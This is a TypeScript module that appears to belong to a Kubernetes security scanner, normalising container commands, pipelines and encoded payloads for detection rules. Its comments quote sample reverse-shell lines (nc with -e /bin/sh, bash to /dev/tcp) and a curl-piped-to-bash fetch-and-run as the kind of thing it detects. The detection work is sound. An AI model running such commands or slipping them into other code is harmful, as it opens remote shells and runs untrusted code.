import { Analyzer, TOP_LEVEL } from './analyzer.js';
import { expandKubernetesReferences } from './kube-expand.js';
import { MAX_ARGV_ITEMS, MAX_INPUT_CHARS } from './limits.js';
import { isShellCommandFlags } from './programs.js';
import { Scope } from './scope.js';

export { decodePayloads } from './payloads.js';

/**
 * What a container will actually run, from its `command`/`args` and env. Never throws; caps on
 * the work done are in limits.ts.
 */
export interface CommandAnalysis {
  /** command + args joined by single spaces, after `$(VAR)` expansion (Kubernetes syntax). */
  commandLine: string;
  /** Every simple command that will run: program basename + args, quotes removed, variables
   * expanded, redirections normalized (`nc 10.0.0.1 4444 -e /bin/sh`, `bash -i >& /dev/tcp/…`).
   * A wrapped command (`sudo`, `env`, `busybox`, `exec` …) is listed both whole and unwrapped. */
  commands: string[];
  /** Basenames of the programs invoked (wrappers and what they wrap), lowercased, unique. */
  programs: string[];
  /** Each pipeline of 2+ commands, e.g. `curl -fsSL http://x/i.sh | bash`. */
  pipelines: string[];
  /** Text decoded from payloads (base64, hex, escapes, decoding pipelines), recursively analyzed. */
  payloads: string[];
  /** Everything worth substring rules: commandLine, scripts raw and deobfuscated, inline code
   * (python -c, perl -e …), payloads and commands. */
  texts: string[];
}

/** The string items of `command` or `args` that analysis looks at. */
export function stringItems(value: unknown): string[] {
  if (!Array.isArray(value)) return [];
  const out: string[] = [];
  for (let i = 0; i < value.length && i < MAX_ARGV_ITEMS; i++) {
    const item: unknown = value[i];
    if (typeof item === 'string') out.push(item);
  }
  return out;
}

function stringMap(env: unknown): Map<string, string> {
  const out = new Map<string, string>();
  if (!(env instanceof Map)) return out;
  for (const [key, value] of env as Map<unknown, unknown>) {
    if (typeof key === 'string' && typeof value === 'string') out.set(key, value);
  }
  return out;
}

/** Kubernetes-expands each item, dropping items once the total passes MAX_INPUT_CHARS. */
function expandItems(items: string[], env: ReadonlyMap<string, string>): string[] {
  const out: string[] = [];
  let total = 0;
  for (const item of items) {
    if (total > MAX_INPUT_CHARS) break;
    const expanded = expandKubernetesReferences(item, env);
    out.push(expanded);
    total += expanded.length + 1;
  }
  return out;
}

export function analyzeContainerCommand(
  command: unknown,
  args: unknown,
  env: ReadonlyMap<string, string>,
): CommandAnalysis {
  let analyzer: Analyzer | null = null;
  let commandLine = '';
  try {
    const vars = stringMap(env);
    const commandItems = expandItems(stringItems(command), vars);
    const argItems = expandItems(stringItems(args), vars);
    // Without `command` the image's ENTRYPOINT runs the args; images with no ENTRYPOINT (busybox,
    // alpine …) run args as the command, which is how they are analysed here.
    const argv = commandItems.length > 0 ? [...commandItems, ...argItems] : argItems;
    commandLine = argv.join(' ').slice(0, MAX_INPUT_CHARS);
    analyzer = new Analyzer(Scope.root(vars));
    analyzer.texts.add(commandLine);
    // Args starting with an option go to an ENTRYPOINT we cannot see: there is no program to
    // name, but `args: ["-c", "…"]` alone almost always means a shell entrypoint.
    const entrypointUnknown = commandItems.length === 0 && (argItems[0] ?? '').startsWith('-');
    if (!entrypointUnknown) {
      analyzer.recordCommand({ argv, redirects: [], stdinText: null }, analyzer.root, TOP_LEVEL);
    } else if (isShellCommandFlags(argItems[0]!) && argItems[1] !== undefined) {
      analyzer.analyzeScript(argItems[1], analyzer.root, { script: 1, payload: 0 });
    }
    analyzer.scanPayloads(commandLine, analyzer.root, TOP_LEVEL);
  } catch {
    // Defence in depth: a bug must cost the analysis of this container, not the whole event.
  }
  return {
    commandLine,
    commands: analyzer?.commands.toArray() ?? [],
    programs: analyzer?.programs.toArray() ?? [],
    pipelines: analyzer?.pipelines.toArray() ?? [],
    payloads: analyzer?.payloads.toArray() ?? [],
    texts: analyzer?.texts.toArray() ?? (commandLine === '' ? [] : [commandLine]),
  };
}
